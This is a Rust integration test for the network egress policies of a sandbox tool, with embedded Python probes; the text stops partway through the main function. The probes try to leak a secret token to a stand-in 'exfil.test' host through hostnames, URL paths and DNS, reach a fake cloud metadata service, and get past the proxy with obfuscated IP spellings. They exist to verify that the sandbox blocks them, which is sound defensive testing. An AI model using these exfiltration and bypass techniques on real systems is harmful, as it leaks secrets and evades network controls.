//! Network policies end to end (SPEC §6), with the real `spawn` binary and real sandboxes.
//!
//! Everything happens in network namespaces of this test's own. The test's namespace is
//! "the host": spawn runs there, listeners on all its addresses stand for the host's own
//! services (on loopback, on its uplink's non-private address `11.0.1.1`, and so on the
//! host end of every run's link), an abstract Unix socket for a host service, and a DNS
//! server on its loopback answers for the `.test` names, like systemd-resolved's stub
//! (spawn is pointed at it with `SPAWN_EGRESS_NAMESERVER`). Behind the uplink, "the
//! world" (a namespace of its own): `11.0.0.1` (standing in for a public server) serves
//! HTTP on port 80, holds port 22 open and echoes UDP on port 7, `10.0.0.5` is a private
//! server, and `169.254.169.254` a cloud metadata service, all reachable from the host.
//! A third namespace, "the LAN", routes through the host: the host must not forward its
//! packets because of spawn. Each run gets its own veth link from spawn, as in production.
//!
//! A plain `main` (harness = false): `unshare(CLONE_NEWNET)` must happen before any
//! thread exists. Needs root, iproute2, nftables and nsenter (`make test` installs them).

// A plain test binary (no #[test] functions), so the test exemptions do not apply.
#![allow(clippy::expect_used, clippy::unwrap_used)]

#[path = "common/tally.rs"]
mod tally;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr as UnixAddr, UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

const PUBLIC: Ipv4Addr = Ipv4Addr::new(11, 0, 0, 1);
const PRIVATE: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 5);
const METADATA: Ipv4Addr = Ipv4Addr::new(169, 254, 169, 254);
/// The host's own non-private address (its uplink to the world).
const HOST_OWN: &str = "11.0.1.1";
/// The host's service on every address it has (TCP and UDP).
const HOST_TCP: u16 = 18080;
const HOST_UDP: u16 = 9999;
/// Abstract Unix socket names: one a host service binds, one the agent binds.
const HOST_ABSTRACT: &str = "spawn-test-host-service";
const AGENT_ABSTRACT: &str = "spawn-test-agent-service";
/// An address the host gets while a run is going.
const NEW_HOST_ADDR: &str = "11.0.2.1";
/// A granted secret (mixed case: a host name folds it) and an agent that sends it out.
const EXFIL_TOKEN: &str = "Tok-S3cr3t-Exfil-9f8e7d6c";
const EXFIL: &str = r#"
import os, socket, urllib.request
t = os.environ["EXFIL_TOKEN"]
print("value", t)
def get(url):
    try:
        return str(urllib.request.urlopen(url, timeout=10).status)
    except urllib.error.HTTPError as e:
        return f"HTTP{e.code}:{e.headers.get('X-Spawn-Denial')}"
    except Exception as e:
        return "ERR:" + type(e).__name__
print("host", get("http://%s.exfil.test/" % t))
print("path", get("http://allowed.test/%s" % t))
try:
    socket.getaddrinfo(t + ".exfil.test", 80)
    print("dns", "resolved")
except Exception as e:
    print("dns", "ERR")
"#;

/// The host's IPv6 address (given while the proxy runs) and its service there.
const HOST_V6: &str = "2606:4700:77::1";
const HOST_TCP6: u16 = 18081;

fn sh(cmd: &[&str]) -> String {
    let out = Command::new(cmd[0])
        .args(&cmd[1..])
        .output()
        .unwrap_or_else(|e| panic!("{cmd:?}: {e} (make test installs iproute2)"));
    assert!(
        out.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The test's DNS server: the `.test` names, and nothing else.
fn dns_server() -> u16 {
    spawn_egress::testing::dns_server(5, |name| match name {
        "allowed.test" | "other.test" => Some(vec![PUBLIC]),
        "private.test" => Some(vec![PRIVATE]),
        "host.test" => Some(vec![HOST_OWN.parse().unwrap()]),
        _ => None,
    })
    .expect("the test's DNS server")
    .port()
}

/// A network namespace held by `unshare --net cat`, which ends with this test (its stdin
/// closes).
struct Netns {
    _holder: Child,
    path: PathBuf,
}

impl Netns {
    fn new() -> Netns {
        use std::os::unix::fs::MetadataExt as _;
        let holder = Command::new("unshare")
            .args(["--net", "--", "cat"])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()
            .expect("unshare (make test installs util-linux)");
        let path = PathBuf::from(format!("/proc/{}/ns/net", holder.id()));
        let ours = std::fs::metadata("/proc/self/ns/net").unwrap().ino();
        let made = (0..1000).any(|_| {
            std::thread::sleep(Duration::from_millis(2));
            std::fs::metadata(&path).is_ok_and(|m| m.ino() != ours)
        });
        assert!(made, "unshare made no network namespace");
        Netns {
            _holder: holder,
            path,
        }
    }

    /// Runs a command in the namespace.
    fn sh(&self, cmd: &[&str]) -> String {
        let mut args = vec![
            "nsenter".to_owned(),
            format!("--net={}", self.path.display()),
        ];
        args.extend(cmd.iter().map(|s| (*s).to_owned()));
        sh(&args.iter().map(String::as_str).collect::<Vec<_>>())
    }

    /// Calls `f` on a thread in the namespace: the sockets it makes are the namespace's.
    fn within<T: Send>(&self, f: impl FnOnce() -> T + Send) -> T {
        std::thread::scope(|s| {
            s.spawn(|| {
                let ns = std::fs::File::open(&self.path).unwrap();
                nix::sched::setns(ns, nix::sched::CloneFlags::CLONE_NEWNET).unwrap();
                f()
            })
            .join()
            .unwrap()
        })
    }

    /// Connects its end of a veth pair `host_if`/eth0 to the test's namespace:
    /// `host_addr` on the test's side, `addr` on its own, both `/24`.
    fn link(&self, host_if: &str, host_addr: &str, addr: &str) {
        let ns = self.path.display().to_string();
        sh(&[
            "ip", "link", "add", host_if, "type", "veth", "peer", "name", "eth0", "netns", &ns,
        ]);
        sh(&[
            "ip",
            "addr",
            "add",
            &format!("{host_addr}/24"),
            "dev",
            host_if,
        ]);
        sh(&["ip", "link", "set", host_if, "up"]);
        self.sh(&["ip", "link", "set", "lo", "up"]);
        self.sh(&["ip", "addr", "add", &format!("{addr}/24"), "dev", "eth0"]);
        self.sh(&["ip", "link", "set", "eth0", "up"]);
        self.sh(&["ip", "route", "add", "default", "via", host_addr]);
    }
}

/// HTTP on `listener` (bound to `ip:80`), one request per connection:
/// `hello from IP, Host: H`.
fn http_server(listener: TcpListener, ip: Ipv4Addr, hits: Arc<AtomicUsize>) {
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            hits.fetch_add(1, Ordering::SeqCst);
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut host = String::new();
            let mut request_line = String::new();
            let _ = reader.read_line(&mut request_line);
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 0) {
                if line == "\r\n" {
                    break;
                }
                if let Some(h) = line.to_ascii_lowercase().strip_prefix("host:") {
                    host = h.trim().to_owned();
                }
                line.clear();
            }
            let mut s = stream;
            if request_line.contains("/redirect") {
                // An allowed host sending the client to the metadata service.
                let _ = write!(
                    s,
                    "HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest/\r\n\
                     Content-Length: 0\r\nConnection: close\r\n\r\n"
                );
                continue;
            }
            let body = format!("hello from {ip}, Host: {host}\n");
            let _ = write!(
                s,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
}

struct Spawn {
    home: tempfile::TempDir,
    dns: u16,
}

impl Spawn {
    /// `spawn` with this test's home and name server.
    fn command(&self) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_spawn"));
        cmd.env("SPAWN_HOME", self.home.path())
            .env("SPAWN_EGRESS_NAMESERVER", format!("127.0.0.1:{}", self.dns));
        cmd
    }

    fn run_on(&self, runtime: &str, flags: &[&str], script: &str) -> Output {
        let mut args = vec!["run", "--runtime", runtime];
        args.extend_from_slice(flags);
        args.extend_from_slice(&["--", "python3", "-c", script]);
        self.command().args(&args).output().expect("run spawn")
    }

    /// [`Spawn::run_on`], which must exit 0: its stdout.
    fn run_ok(&self, runtime: &str, flags: &[&str], script: &str) -> String {
        let out = self.run_on(runtime, flags, script);
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        assert_eq!(
            out.status.code(),
            Some(0),
            "{runtime} {flags:?}: {stdout} {}",
            String::from_utf8_lossy(&out.stderr)
        );
        stdout
    }

    /// Runs [`FULL`] with `net: full` on `runtime`; while the agent holds its abstract
    /// socket, the host tries to connect to it. Returns stdout, stderr and how that went.
    fn full_probe(&self, runtime: &str) -> (String, String, String) {
        let mut child = Command::new(env!("CARGO_BIN_EXE_spawn"))
            .args(["run", "--runtime", runtime, "--net", "full", "--"])
            .args(["python3", "-c", &full_script()])
            .env("SPAWN_HOME", self.home.path())
            .env("SPAWN_EGRESS_NAMESERVER", format!("127.0.0.1:{}", self.dns))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("run spawn");
        let mut reader = BufReader::new(child.stdout.take().unwrap());
        let mut stdout = String::new();
        let mut line = String::new();
        while reader.read_line(&mut line).is_ok_and(|n| n > 0) {
            stdout.push_str(&line);
            if line.starts_with("bound") {
                break;
            }
            line.clear();
        }
        let reached = if stdout.contains("bound") {
            match UnixStream::connect_addr(
                &UnixAddr::from_abstract_name(AGENT_ABSTRACT.as_bytes()).unwrap(),
            ) {
                Ok(_) => "CONNECTED".to_owned(),
                Err(e) => format!("ERR:{:?}", e.kind()),
            }
        } else {
            "ERR:the agent never bound".to_owned()
        };
        let new = format!("{NEW_HOST_ADDR}/32");
        sh(&["ip", "addr", "add", &new, "dev", "lo"]);
        let mut stdin = child.stdin.take().unwrap();
        let _ = stdin.write_all(b"go\n").and_then(|()| stdin.flush());
        line.clear();
        let _ = reader.read_line(&mut line);
        stdout.push_str(&line);
        sh(&["ip", "addr", "del", &new, "dev", "lo"]);
        drop(stdin);
        reader.read_to_string(&mut stdout).unwrap();
        let mut stderr = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut stderr)
            .unwrap();
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(0), "{runtime}: {stdout}\n{stderr}");
        (stdout, stderr, reached)
    }

    fn audit(&self) -> Vec<serde_json::Value> {
        let text =
            std::fs::read_to_string(self.home.path().join("audit/audit.jsonl")).unwrap_or_default();
        text.lines()
            .map(|l| serde_json::from_str(l).expect("JSON audit line"))
            .collect()
    }
}

/// Each `(name, result)` line the probe printed, exactly.
fn expect_fields(runtime: &str, stdout: &str, want: &[(&str, &str)]) {
    for (key, value) in want {
        assert_eq!(field(stdout, key), *value, "{runtime}: {key}: {stdout}");
    }
}

fn field<'a>(out: &'a str, key: &str) -> &'a str {
    out.lines()
        .find_map(|l| l.strip_prefix(key).and_then(|r| r.strip_prefix(' ')))
        .unwrap_or_else(|| panic!("no line {key:?} in:\n{out}"))
}

/// Python run inside the sandbox: each line `name result`.
const PROBE: &str = r#"
import os, socket, urllib.request
def fetch(url, proxy=True):
    handler = urllib.request.ProxyHandler() if proxy else urllib.request.ProxyHandler({})
    try:
        return urllib.request.build_opener(handler).open(url, timeout=10).read().decode().strip().replace(' ', '_')
    except urllib.error.HTTPError as e:
        return f"HTTP{e.code}:{e.headers.get('X-Spawn-Denial')}"
    except Exception as e:
        return "ERR:" + type(e).__name__
def tcp(host, port):
    s = socket.socket(); s.settimeout(5)
    try:
        s.connect((host, port)); return "CONNECTED"
    except Exception as e:
        return "ERR:" + type(e).__name__
def resolve(name):
    try:
        return socket.gethostbyname(name)
    except Exception as e:
        return "ERR:" + type(e).__name__
print("proxy", os.environ.get("HTTP_PROXY", "none"))
print("allowed", fetch("http://allowed.test/"))
print("redirect", fetch("http://allowed.test/redirect"))
print("redirect_direct", fetch("http://allowed.test/redirect", proxy=False))
print("other", fetch("http://other.test/"))
print("metadata", fetch("http://169.254.169.254/latest/meta-data/"))
print("metadata_hex", fetch("http://0xa9fea9fe/"))
print("private_name", fetch("http://private.test/"))
print("private_ip", fetch("http://10.0.0.5/"))
print("direct_allowed", fetch("http://allowed.test/", proxy=False))
print("direct_other", fetch("http://other.test/", proxy=False))
print("direct_ip", fetch("http://11.0.0.1/", proxy=False))
print("raw22", tcp("11.0.0.1", 22))
print("rawprivate", tcp("10.0.0.5", 8080))
print("direct_private", fetch("http://10.0.0.5/", proxy=False))
print("dns_allowed", resolve("allowed.test"))
print("dns_other", resolve("other.test"))
print("dns_private", resolve("private.test"))
"#;

/// Python run inside the sandbox: what it sends anywhere but to the proxy and DNS.
const STRAY: &str = r#"
import os, socket
gateway = os.environ["HTTP_PROXY"].split("//")[1].split(":")[0]
def attempt(make):
    try:
        return make()
    except Exception as e:
        return "ERR:" + type(e).__name__
def tcp(host, port):
    s = socket.socket(); s.settimeout(5); s.connect((host, port)); return "CONNECTED"
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(3): s.sendto(b"stray", (host, port))
    return "sent"
def ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2)
    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("11.0.0.1", 0))
    return "REPLY " + repr(s.recv(64))
print("host_tcp", attempt(lambda: tcp(gateway, 18080)))
print("public_udp", attempt(lambda: udp("11.0.0.1", 9999)))
print("host_udp", attempt(lambda: udp(gateway, 9999)))
print("raw_icmp", attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)))
print("raw_tcp", attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)))
print("packet", attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)))
print("ping", attempt(ping))
"#;

/// Python run inside the sandbox under `net: full`: each line `name result`; then it binds
/// an abstract Unix socket, says `bound` and waits for its stdin to close.
const FULL: &str = r#"
import ipaddress, os, socket, sys, urllib.request
def attempt(make):
    try:
        return make()
    except Exception as e:
        return "ERR:" + type(e).__name__
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family); s.settimeout(5); s.connect((host, port)); return "CONNECTED"
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.sendto(b"ping", (host, port)); return "REPLY:" + s.recv(64).decode()
def http(url):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return opener.open(url, timeout=10).read().decode().strip().replace(" ", "_")
def unix(name):
    s = socket.socket(socket.AF_UNIX); s.connect("\0" + name); return "CONNECTED"
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); probe.connect(("11.0.0.1", 9))
me = ipaddress.ip_address(probe.getsockname()[0])
host_end, other_run = str(me - 1), str(ipaddress.ip_address(int(me) ^ 0x100))
print("proxy", os.environ.get("HTTP_PROXY", "none"))
print("public_http", attempt(lambda: http("http://11.0.0.1/")))
print("public_tcp", attempt(lambda: tcp("11.0.0.1", 22)))
print("public_udp", attempt(lambda: udp("11.0.0.1", 7)))
print("private_http", attempt(lambda: http("http://10.0.0.5/")))
print("dns", attempt(lambda: socket.gethostbyname("allowed.test")))
print("dns_private", attempt(lambda: socket.gethostbyname("private.test")))
for name, host in [("host_own", "HOST_OWN"), ("host_end", host_end), ("loopback", "127.0.0.1")]:
    print(name + "_tcp", attempt(lambda: tcp(host, HOST_TCP)))
    print(name + "_udp", attempt(lambda: udp(host, HOST_UDP)))
print("metadata_tcp", attempt(lambda: tcp("169.254.169.254", 80)))
print("metadata_udp", attempt(lambda: udp("169.254.169.254", 53)))
print("metadata_v6", attempt(lambda: tcp("fd00:ec2::254", 80, socket.AF_INET6)))
print("other_run_tcp", attempt(lambda: tcp(other_run, HOST_TCP)))
with open("/proc/net/unix") as f:
    print("abstract_seen", "yes" if "@HOST_ABSTRACT" in f.read() else "no")
print("abstract_connect", attempt(lambda: unix("HOST_ABSTRACT")))
agent = socket.socket(socket.AF_UNIX); agent.bind("\0AGENT_ABSTRACT"); agent.listen()
print("bound", flush=True)
# Meanwhile the host gets an address it did not have when the run's link was made.
sys.stdin.readline()
print("new_host_addr_tcp", attempt(lambda: tcp("NEW_HOST_ADDR", HOST_TCP)), flush=True)
sys.stdin.read()
"#;

/// Python run inside the sandbox: every way to ask the proxy for the host itself (its own
/// address in several spellings, one it got while the proxy ran, IPv6, the link's host
/// end, a name resolving to it; by CONNECT, absolute URI and the transparent paths). Each
/// line `name STATUS:X-Spawn-Denial`.
const HOST: &str = r#"
import os, socket, ssl
ph, pp = os.environ["HTTP_PROXY"].split("//")[1].rstrip("/").split(":")
def ask(raw, host, port):
    s = socket.socket(); s.settimeout(10)
    try:
        s.connect((host, port)); s.sendall(raw.encode())
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        head = data.decode(errors="replace")
        status = head.split(" ")[1] if " " in head else "NONE"
        reason = "None"
        for line in head.split("\r\n"):
            if line.lower().startswith("x-spawn-denial:"):
                reason = line.split(":", 1)[1].strip()
        return status + ":" + reason
    except Exception as e:
        return "ERR:" + type(e).__name__
def connect(dest):
    return ask(f"CONNECT {dest} HTTP/1.1\r\nHost: {dest}\r\n\r\n", ph, int(pp))
def absolute(dest):
    return ask(f"GET http://{dest}/ HTTP/1.1\r\nHost: {dest}\r\nConnection: close\r\n\r\n", ph, int(pp))
def transparent(ip, host):
    return ask(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n", ip, 80)
def tls(name):
    s = socket.create_connection(("11.0.0.1", 443), timeout=10)
    try:
        ssl.create_default_context().wrap_socket(s, server_hostname=name)
        return "HANDSHAKE"
    except Exception as e:
        return "CLOSED"
targets = [("own", "HOST_OWN", HOST_TCP), ("own_int", "184549633", HOST_TCP),
           ("own_hex", "0xb000101", HOST_TCP), ("own_octal", "013.0.01.01", HOST_TCP),
           ("own_v6map", "[::ffff:HOST_OWN]", HOST_TCP), ("new", "NEW_ADDR", HOST_TCP),
           ("v6", "[HOST_V6]", HOST_TCP6), ("end", ph, HOST_TCP), ("name", "host.test", HOST_TCP),
           ("name80", "host.test", 80)]
for name, host, port in targets:
    print("connect_" + name, connect(f"{host}:{port}"))
    print("absolute_" + name, absolute(f"{host}:{port}"))
print("transparent_ip", transparent("HOST_OWN", "HOST_OWN"))
print("transparent_name", transparent("11.0.0.1", "host.test"))
print("transparent_new", transparent("11.0.0.1", "NEW_ADDR"))
print("tls_name", tls("host.test"))
try:
    print("dns_host", socket.gethostbyname("host.test"))
except Exception as e:
    print("dns_host", "ERR:" + type(e).__name__)
"#;

/// Python run inside the sandbox: opens `TRIES` tunnels to the public server's port 22
/// (which accepts and holds them), says how each was answered, then holds them until its
/// stdin closes.
const HOLD: &str = r#"
import collections, os, socket, sys
ph, pp = os.environ["HTTP_PROXY"].split("//")[1].rstrip("/").split(":")
held, answers = [], collections.Counter()
for _ in range(TRIES):
    s = socket.socket(); s.settimeout(10)
    try:
        s.connect((ph, int(pp)))
        s.sendall(b"CONNECT 11.0.0.1:22 HTTP/1.1\r\nHost: 11.0.0.1:22\r\n\r\n")
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = s.recv(1)
            if not chunk:
                break
            head += chunk
        code = head.split(b" ")[1].decode() if b" " in head else "NONE"
        if b"x-spawn-denial: connection-limit" in head.lower():
            code += "-limit"
    except Exception as e:
        code = "ERR:" + type(e).__name__
    answers[code] += 1
    held.append(s)
print("answers", " ".join(f"{k}={v}" for k, v in sorted(answers.items())), flush=True)
print("holding", flush=True)
sys.stdin.read()
"#;

/// A flood of refused requests through the proxy: `GET`s for `denied.test`, every fifth for
/// a name of its own (`hN.denied.test`). After TRIES it says `flooded` and goes on until
/// SECONDS have passed and its stdin is closed; then `answers REFUSED OTHER` (403
/// `not-allowlisted`, anything else).
const FLOOD: &str = r#"
import os, select, socket, sys, time
ph, pp = os.environ["HTTP_PROXY"].split("//")[1].rstrip("/").split(":")
def ask(host):
    s = socket.create_connection((ph, int(pp)), timeout=10)
    s.sendall(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    s.close()
    return data.lower()
refused = other = i = 0
start = time.monotonic()
while True:
    head = ask(f"h{i}.denied.test" if i % 5 == 4 else "denied.test")
    if head.startswith(b"http/1.1 403") and b"x-spawn-denial: not-allowlisted" in head:
        refused += 1
    else:
        other += 1
    i += 1
    if i == TRIES:
        print("flooded", flush=True)
    if i >= TRIES and time.monotonic() - start >= SECONDS:
        if select.select([0], [], [], 0)[0] and not os.read(0, 1):
            break
print("answers", refused, other, flush=True)
"#;

/// Five fetches of `allowed.test` through the proxy, each line the body.
const FETCH5: &str = r#"
import urllib.request
for _ in range(5):
    print(urllib.request.urlopen("http://allowed.test/", timeout=10).read().decode().strip())
"#;

/// A log's events grouped by run (`traceId`), in order.
fn by_trace(events: &[serde_json::Value]) -> Vec<(String, Vec<serde_json::Value>)> {
    let mut traces: Vec<(String, Vec<serde_json::Value>)> = Vec::new();
    for e in events {
        let id = e["traceId"].as_str().unwrap_or("").to_owned();
        match traces.iter_mut().find(|(t, _)| *t == id) {
            Some((_, list)) => list.push(e.clone()),
            None => traces.push((id, vec![e.clone()])),
        }
    }
    traces
}

/// The one trace of `events` with an event `pick` likes.
fn trace_with(
    events: &[serde_json::Value],
    pick: impl Fn(&serde_json::Value) -> bool,
) -> Vec<serde_json::Value> {
    let mut found: Vec<Vec<serde_json::Value>> = by_trace(events)
        .into_iter()
        .filter(|(_, list)| list.iter().any(&pick))
        .map(|(_, list)| list)
        .collect();
    assert_eq!(found.len(), 1, "one run's trace: {found:#?}");
    found.pop().unwrap()
}

/// A flood run, started: waits for its `flooded`.
struct Flood {
    child: Child,
    reader: BufReader<std::process::ChildStdout>,
    began: std::time::Instant,
}

impl Flood {
    fn start(
        spawn: &Spawn,
        runtime: &str,
        tries: u32,
        seconds: u32,
        limits: Option<&str>,
    ) -> Flood {
        let script = FLOOD
            .replace("TRIES", &tries.to_string())
            .replace("SECONDS", &seconds.to_string());
        let mut cmd = spawn.command();
        cmd.args(["run", "--runtime", runtime, "--net", "restricted"])
            .args(["--allow", "allowed.test", "--", "python3", "-c", &script])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit());
        if let Some(l) = limits {
            cmd.env("SPAWN_AUDIT_LIMITS", l);
        }
        let began = std::time::Instant::now();
        let mut child = cmd.spawn().expect("run spawn");
        let mut reader = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        reader.read_line(&mut line).unwrap();
        assert_eq!(line.trim(), "flooded", "{runtime}");
        Flood {
            child,
            reader,
            began,
        }
    }

    /// Closes its stdin; what it counted (403 `not-allowlisted`) and how long it ran.
    fn finish(mut self, runtime: &str) -> (u64, Duration) {
        drop(self.child.stdin.take());
        let mut rest = String::new();
        self.reader.read_to_string(&mut rest).unwrap();
        let status = self.child.wait().unwrap();
        let took = self.began.elapsed();
        assert_eq!(status.code(), Some(0), "{runtime}: {rest}");
        let answers: Vec<u64> = rest
            .trim()
            .strip_prefix("answers ")
            .unwrap_or_else(|| panic!("{runtime}: {rest}"))
            .split(' ')
            .map(|n| n.parse().unwrap())
            .collect();
        assert_eq!(answers[1], 0, "{runtime}: answers other than 403: {rest}");
        (answers[0], took)
    }
}

/// The proxy's own closing event of a run (`summary`, with its totals).
fn net_summary(trace: &[serde_json::Value]) -> &serde_json::Value {
    let found: Vec<&serde_json::Value> = trace
        .iter()
        .filter(|e| e["eventType"] == "agent.net.connect" && e["action"] == "summary")
        .collect();
    assert_eq!(found.len(), 1, "{found:#?}");
    found[0]
}

/// [`FULL`] with this test's names and ports.
fn full_script() -> String {
    FULL.replace("HOST_OWN", HOST_OWN)
        .replace("HOST_TCP", &HOST_TCP.to_string())
        .replace("HOST_UDP", &HOST_UDP.to_string())
        .replace("HOST_ABSTRACT", HOST_ABSTRACT)
        .replace("AGENT_ABSTRACT", AGENT_ABSTRACT)
        .replace("NEW_HOST_ADDR", NEW_HOST_ADDR)
}

/// `net.ipv4.ip_forward` in the test's namespace.
fn ip_forward() -> String {
    std::fs::read_to_string("/proc/sys/net/ipv4/ip_forward")
        .unwrap()
        .trim()
        .to_owned()
}

/// spawn's record that forwarding in the test's namespace is its own (named after the
/// namespace's inode, which a later namespace may get again).
fn forwarding_record() -> PathBuf {
    use std::os::unix::fs::MetadataExt as _;
    let ino = std::fs::metadata("/proc/self/ns/net").unwrap().ino();
    Path::new("/dev/shm/spawn").join(format!("forwarding-{ino}"))
}

/// Whether the LAN gets through the host to the public server.
fn lan_reaches_the_world(lan: &Netns) -> String {
    let script = "import socket\ns = socket.socket(); s.settimeout(3)\ntry:\n    \
                  s.connect(('11.0.0.1', 80)); print('CONNECTED')\nexcept Exception as e:\n    \
                  print('ERR:' + type(e).__name__)\n";
    lan.sh(&["python3", "-c", script]).trim().to_owned()
}

/// Python run inside the sandbox: knocks on the host's service (on its own address and on
/// the link's host end) for a few seconds, after saying `knocking`.
const KNOCK: &str = r#"
import ipaddress, socket, time
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); probe.connect(("11.0.0.1", 9))
host_end = str(ipaddress.ip_address(probe.getsockname()[0]) - 1)
print("knocking", flush=True)
end = time.time() + 4
while time.time() < end:
    for host in ("HOST_OWN", host_end):
        s = socket.socket(); s.settimeout(0.2)
        try:
            s.connect((host, 18080))
        except Exception:
            pass
        s.close()
    time.sleep(0.05)
"#;

/// Runs an agent on `runtime` that listens on port 8080 and holds a connection to the
/// proxy, and returns what the host kernel lists (`ss -tan`) in the run's network
/// namespace meanwhile.
fn agent_sockets(spawn: &Spawn, runtime: &str) -> String {
    let script = r#"
import os, socket, sys, time
l = socket.socket(); l.bind(("0.0.0.0", 8080)); l.listen()
proxy = os.environ["HTTP_PROXY"].split("//")[1].split(":")
c = socket.create_connection((proxy[0], int(proxy[1])))
print("ready", flush=True)
sys.stdin.read()
"#;
    let mut child = Command::new(env!("CARGO_BIN_EXE_spawn"))
        .args([
            "run",
            "--runtime",
            runtime,
            "--net",
            "egress-only",
            "--",
            "python3",
            "-c",
            script,
        ])
        .env("SPAWN_HOME", spawn.home.path())
        .env(
            "SPAWN_EGRESS_NAMESERVER",
            format!("127.0.0.1:{}", spawn.dns),
        )
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut reader = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    reader.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "ready", "{runtime}");
    // The run's namespace: the one spawn's children live in that is not the test's (the
    // namespace's holder, and the sandbox's init or runsc, are all in it).
    let spawn_pid = child.id().to_string();
    let ours = std::fs::read_link("/proc/self/ns/net").unwrap();
    let holder = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .find(|e| {
            let stat = std::fs::read_to_string(e.path().join("stat")).unwrap_or_default();
            // The parent's pid is the second field after the command's `)`.
            let parent = stat
                .rsplit_once(')')
                .map(|(_, rest)| rest.split_whitespace().nth(1));
            parent == Some(Some(spawn_pid.as_str()))
                && std::fs::read_link(e.path().join("ns/net")).is_ok_and(|ns| ns != ours)
        })
        .map(|e| e.path().join("ns/net"))
        .expect("the run's network namespace");
    let listed = sh(&[
        "nsenter",
        &format!("--net={}", holder.display()),
        "ss",
        "-Htan",
    ]);
    drop(child.stdin.take());
    assert!(child.wait().unwrap().success(), "{runtime}");
    listed
}

fn main() {
    assert!(
        nix::unistd::geteuid().is_root(),
        "these tests need root: run `make test` as root"
    );
    spawn_egress::testing::own_network(&[])
        .expect("a network namespace of the test's own (make test installs iproute2)");
    // The world behind the host's uplink, and a LAN that routes through the host.
    let world = Netns::new();
    world.link("up0", HOST_OWN, "11.0.1.2");
    for addr in [PUBLIC, PRIVATE, METADATA] {
        world.sh(&["ip", "addr", "add", &format!("{addr}/32"), "dev", "lo"]);
        sh(&[
            "ip",
            "route",
            "add",
            &format!("{addr}/32"),
            "via",
            "11.0.1.2",
        ]);
    }
    let lan = Netns::new();
    lan.link("lan0", "192.168.77.1", "192.168.77.2");
    let public_hits = Arc::new(AtomicUsize::new(0));
    let private_hits = Arc::new(AtomicUsize::new(0));
    let metadata_hits = Arc::new(AtomicUsize::new(0));
    let (public, private, metadata, ssh, echo) = world.within(|| {
        (
            TcpListener::bind((PUBLIC, 80)).unwrap(),
            TcpListener::bind((PRIVATE, 80)).unwrap(),
            TcpListener::bind((METADATA, 80)).unwrap(),
            TcpListener::bind((PUBLIC, 22)).unwrap(),
            std::net::UdpSocket::bind((PUBLIC, 7)).unwrap(),
        )
    });
    http_server(public, PUBLIC, public_hits.clone());
    http_server(private, PRIVATE, private_hits.clone());
    http_server(metadata, METADATA, metadata_hits.clone());
    // Port 22 of the public address accepts: only the sandbox's filter can refuse it.
    // It holds what it accepts (a tunnel there stays open until its client ends it).
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for s in ssh.incoming() {
            held.push(s);
        }
    });
    // UDP echo on the public address.
    std::thread::spawn(move || {
        let mut buf = [0u8; 64];
        while let Ok((n, from)) = echo.recv_from(&mut buf) {
            let _ = echo.send_to(&buf[..n], from);
        }
    });
    // Listeners on every address of the test's namespace (the host's loopback, its own
    // address, the host end of every run's link): nothing from a sandbox may reach them.
    let stray_tcp = Arc::new(AtomicUsize::new(0));
    let stray_udp = Arc::new(AtomicUsize::new(0));
    {
        let tcp = TcpListener::bind(("0.0.0.0", HOST_TCP)).unwrap();
        let hits = stray_tcp.clone();
        std::thread::spawn(move || {
            for _ in tcp.incoming() {
                hits.fetch_add(1, Ordering::SeqCst);
            }
        });
        // And on IPv6 (both families, on a port of its own).
        let tcp6 = TcpListener::bind(("::", HOST_TCP6)).unwrap();
        let hits = stray_tcp.clone();
        std::thread::spawn(move || {
            for _ in tcp6.incoming() {
